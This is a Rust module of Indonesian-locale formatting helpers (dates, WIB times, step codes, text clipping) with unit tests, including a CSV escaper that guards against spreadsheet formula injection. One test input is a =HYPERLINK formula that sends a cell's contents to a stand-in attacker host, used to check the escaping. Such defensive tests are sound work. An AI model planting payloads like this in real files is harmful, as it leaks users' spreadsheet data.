//! Formatting of values the way Indonesian users read them.

use chrono::{DateTime, Datelike, NaiveDate, Utc};

const MONTHS: [&str; 12] = [
    "Januari",
    "Februari",
    "Maret",
    "April",
    "Mei",
    "Juni",
    "Juli",
    "Agustus",
    "September",
    "Oktober",
    "November",
    "Desember",
];

/// "29 November 2026".
pub fn date_id(date: NaiveDate) -> String {
    format!(
        "{} {} {}",
        date.day(),
        MONTHS[date.month0() as usize],
        date.year()
    )
}

/// "29 November 2026 14.05 WIB" (Asia/Jakarta, the unit's time zone).
pub fn datetime_id(at: DateTime<Utc>) -> String {
    let local = at.with_timezone(&chrono_tz::Asia::Jakarta);
    format!(
        "{} {} WIB",
        date_id(local.date_naive()),
        local.format("%H.%M")
    )
}

/// Parses the `YYYY-MM-DDTHH:MM:SSZ` text SQLite stores and formats it for people;
/// an unparsable value is shown as stored rather than hidden.
pub fn stored_datetime_id(stored: &str) -> String {
    DateTime::parse_from_rfc3339(stored)
        .map(|d| datetime_id(d.with_timezone(&Utc)))
        .unwrap_or_else(|_| stored.to_string())
}

/// Roman numerals of the six LKE components.
pub fn roman(n: i64) -> &'static str {
    match n {
        1 => "I",
        2 => "II",
        3 => "III",
        4 => "IV",
        5 => "V",
        6 => "VI",
        _ => "?",
    }
}

/// The letter of an indicator within its area, as the LKE writes it (1.a, 1.b, …).
pub fn indicator_letter(position: i64) -> String {
    if (1..=26).contains(&position) {
        ((b'a' + (position - 1) as u8) as char).to_string()
    } else {
        position.to_string()
    }
}

/// A text cell for a CSV file that a spreadsheet will open: a cell starting with `=`,
/// `+`, `-`, `@`, a tab or a carriage return would be run as a formula, so it gets a
/// leading apostrophe (OWASP's advice); a cell already starting with an apostrophe
/// gets one more, so `csv_text` undoes exactly what this adds.
pub fn csv_cell(s: &str) -> std::borrow::Cow<'_, str> {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => format!("'{s}").into(),
        _ => s.into(),
    }
}

/// The text of a cell written by `csv_cell` (one leading apostrophe removed).
pub fn csv_text(s: &str) -> &str {
    s.strip_prefix('\'').unwrap_or(s)
}

/// The stored form of "now": UTC, second precision.
pub fn now_stamp() -> String {
    chrono::Utc::now().format("%Y-%m-%dT%H:%M:%SZ").to_string()
}

/// A store's lower-case reason ("kode unit … sudah dipakai") as a sentence for a page.
pub fn sentence(msg: &str) -> String {
    let mut c = msg.chars();
    match c.next() {
        Some(f) => format!("{}{}.", f.to_uppercase(), c.as_str().trim_end_matches('.')),
        None => String::new(),
    }
}

/// At most `max` characters, cut at a word with "…" when shortened (for one-line
/// mentions of a long step text in notifications).
pub fn clip(text: &str, max: usize) -> String {
    if text.chars().count() <= max {
        return text.to_string();
    }
    let cut: String = text.chars().take(max).collect();
    let at = cut.rfind(' ').filter(|i| *i > max / 2).unwrap_or(cut.len());
    format!("{}…", cut[..at].trim_end_matches([' ', ',', ';', ':']))
}

/// How far a date is, in words: "sudah lewat", "hari ini", "besok", "3 hari lagi".
pub fn days_left(days: i64) -> String {
    match days {
        d if d < 0 => "sudah lewat".into(),
        0 => "hari ini".into(),
        1 => "besok".into(),
        d => format!("{d} hari lagi"),
    }
}

/// A step's code as people read it: component numeral, area, indicator letter, step.
pub fn step_code(numeral: &str, area: i64, indicator: i64, step: i64) -> String {
    format!("{numeral}.{area}.{}.{step}", indicator_letter(indicator))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn long_texts_are_clipped_at_a_word() {
        assert_eq!(clip("pendek", 10), "pendek");
        assert_eq!(clip("rencana aksi tahun 2021", 20), "rencana aksi tahun…");
        assert_eq!(clip("abcdefghijklmnop", 5), "abcde…");
    }

    #[test]
    fn days_left_in_words() {
        assert_eq!(days_left(-2), "sudah lewat");
        assert_eq!(days_left(0), "hari ini");
        assert_eq!(days_left(1), "besok");
        assert_eq!(days_left(12), "12 hari lagi");
    }

    #[test]
    fn spreadsheet_formulas_are_neutralised_and_restored() {
        for (raw, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")",
            ),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'kutip", "''kutip"),
            ("biasa", "biasa"),
            ("", ""),
        ] {
            assert_eq!(csv_cell(raw), written, "{raw:?}");
            assert_eq!(csv_text(&csv_cell(raw)), raw, "round trip {raw:?}");
        }
    }

    #[test]
    fn indonesian_dates() {
        let d = NaiveDate::from_ymd_opt(2026, 11, 29).unwrap();
        assert_eq!(date_id(d), "29 November 2026");
        let d = NaiveDate::from_ymd_opt(2021, 1, 5).unwrap();
        assert_eq!(date_id(d), "5 Januari 2021");
        assert_eq!(
            stored_datetime_id("2026-11-29T07:05:00Z"),
            "29 November 2026 14.05 WIB"
        );
    }
}
